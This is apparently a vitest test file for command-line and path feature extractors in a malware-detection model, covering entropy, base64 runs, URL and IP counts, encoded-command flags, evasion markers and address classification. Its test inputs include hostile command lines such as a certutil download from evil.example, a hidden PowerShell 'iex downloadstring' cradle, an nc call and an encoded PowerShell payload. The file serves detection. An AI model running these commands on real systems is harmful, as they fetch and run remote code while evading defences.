import { describe, expect, it } from 'vitest';
import { basename, commandLine as cl, isPublicAddress, PathClass, pathClass, registeredDomainStart } from '../../../models/features/index.js';

const B64 = 'SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA';

describe('command-line shape', () => {
  it('entropy: 0 for one repeated char, 1 bit for two, more for random text', () => {
    expect(cl.shannonEntropy('')).toBe(0);
    expect(cl.shannonEntropy('aaaa')).toBe(0);
    expect(cl.shannonEntropy('abab')).toBeCloseTo(1, 10);
    expect(cl.shannonEntropy('abcdefgh')).toBeCloseTo(3, 10);
    expect(cl.shannonEntropy('abcdefghijklmnopqrstuvwxyzABCDEF')).toBeCloseTo(5, 10); // 32 distinct chars
    // UTF-16LE base64 (PowerShell -enc) is full of 'A': its entropy is moderate, hence cmd_base64_run
    expect(cl.shannonEntropy(B64)).toBeGreaterThan(3.5);
  });

  it('longest base64 and hex runs', () => {
    expect(cl.longestBase64Run(`powershell.exe -nop -enc ${B64}`)).toBe(B64.length);
    expect(cl.longestBase64Run('C:\\Windows\\System32\\cmd.exe /c dir')).toBe(8); // "System32"
    expect(cl.longestHexRun('rundll32 x.dll,#1 deadbeef00112233 zz')).toBe(16);
    expect(cl.longestHexRun('')).toBe(0);
  });

  it('URL and IP literals', () => {
    expect(cl.countUrls('certutil -urlcache -f http://10.0.0.5/a.exe https://evil.example/b')).toBe(2);
    expect(cl.countUrls('notepad.exe C:\\x.txt')).toBe(0);
    expect(cl.countIpLiterals('ping 192.168.1.10 && nc 8.8.8.8 53')).toBe(2);
    expect(cl.countIpLiterals('version 10.0.17763.1217 and 300.1.1.1 and 1.2.3')).toBe(0);
    expect(cl.countIpLiterals('http://10.0.0.5/a.exe')).toBe(1);
  });

  it('encoded command flags', () => {
    for (const c of ['powershell -enc AAAA', 'powershell.exe -e AAAA', 'pwsh -EncodedCommand AAAA', 'powershell -ec AAAA', 'powershell /enc AAAA', "iex([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('AA')))"]) {
      expect(cl.hasEncodedFlag(c.toLowerCase()), c).toBe(true);
    }
    for (const c of ['powershell -ExecutionPolicy Bypass -File x.ps1', 'powershell -ep bypass', 'cmd /c echo -enchanted']) {
      expect(cl.hasEncodedFlag(c.toLowerCase()), c).toBe(false);
    }
  });

  it('evasion markers and obfuscation', () => {
    expect(cl.countEvasionMarkers('powershell -nop -w hidden -c iex (new-object net.webclient).downloadstring(\'http://x\')')).toBe(5);
    expect(cl.countEvasionMarkers('notepad.exe c:\\notes.txt')).toBe(0);
    expect(cl.obfuscationCharFraction('c^m^d')).toBeCloseTo(0.4);
    expect(cl.obfuscationCharFraction('')).toBe(0);
  });

  it('tokens, bounded by the buffer', () => {
    const s = new Int32Array(3);
    const e = new Int32Array(3);
    const line = 'cmd.exe /c "echo hi" x y';
    expect(cl.tokenBounds(line, s, e)).toBe(3);
    expect(line.slice(s[0], e[0])).toBe('cmd.exe');
    expect(line.slice(s[2], e[2])).toBe('echo');
    expect(cl.countTokens(line)).toBe(6);
    expect(cl.countTokens('   ')).toBe(0);
  });
});

describe('image paths and addresses', () => {
  it('classes paths', () => {
    expect(pathClass('c:\\windows\\system32\\cmd.exe')).toBe(PathClass.SYSTEM);
    expect(pathClass('d:\\windows\\system32\\cmd.exe')).toBe(PathClass.SYSTEM);
    expect(pathClass('c:\\program files\\google\\chrome\\application\\chrome.exe')).toBe(PathClass.PROGRAM);
    expect(pathClass('c:\\users\\bob\\appdata\\roaming\\x.exe')).toBe(PathClass.USER_WRITABLE);
    expect(pathClass('c:\\users\\bob\\appdata\\local\\temp\\x.exe')).toBe(PathClass.USER_WRITABLE | PathClass.TEMP);
    expect(pathClass('c:\\windows\\temp\\x.exe')).toBe(PathClass.USER_WRITABLE | PathClass.TEMP);
    expect(pathClass('/tmp/.x/kworker')).toBe(PathClass.USER_WRITABLE | PathClass.TEMP);
    expect(pathClass('/usr/bin/bash')).toBe(PathClass.SYSTEM);
    expect(pathClass('')).toBe(0);
    expect(basename('C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\PowerShell.exe')).toBe('powershell.exe');
    expect(basename('/usr/bin/curl')).toBe('curl');
  });

  it('public and private addresses, registered domains', () => {
    for (const a of ['10.1.2.3', '192.168.0.1', '172.20.1.1', '127.0.0.1', '169.254.1.1', '::1', 'fe80::1', '', '0.0.0.0', '::ffff:10.0.0.1', '224.0.0.251']) expect(isPublicAddress(a), a).toBe(false);
    for (const a of ['8.8.8.8', '172.32.0.1', '52.179.129.229', '2a00:1450::1', '::ffff:52.1.1.1']) expect(isPublicAddress(a), a).toBe(true);
    const reg = (n: string) => n.slice(registeredDomainStart(n));
    expect(reg('a.b.example.com')).toBe('example.com');
    expect(reg('www.bbc.co.uk')).toBe('bbc.co.uk');
    expect(reg('localhost')).toBe('localhost');
    expect(reg('example.com.')).toBe('example.com.');
  });
});
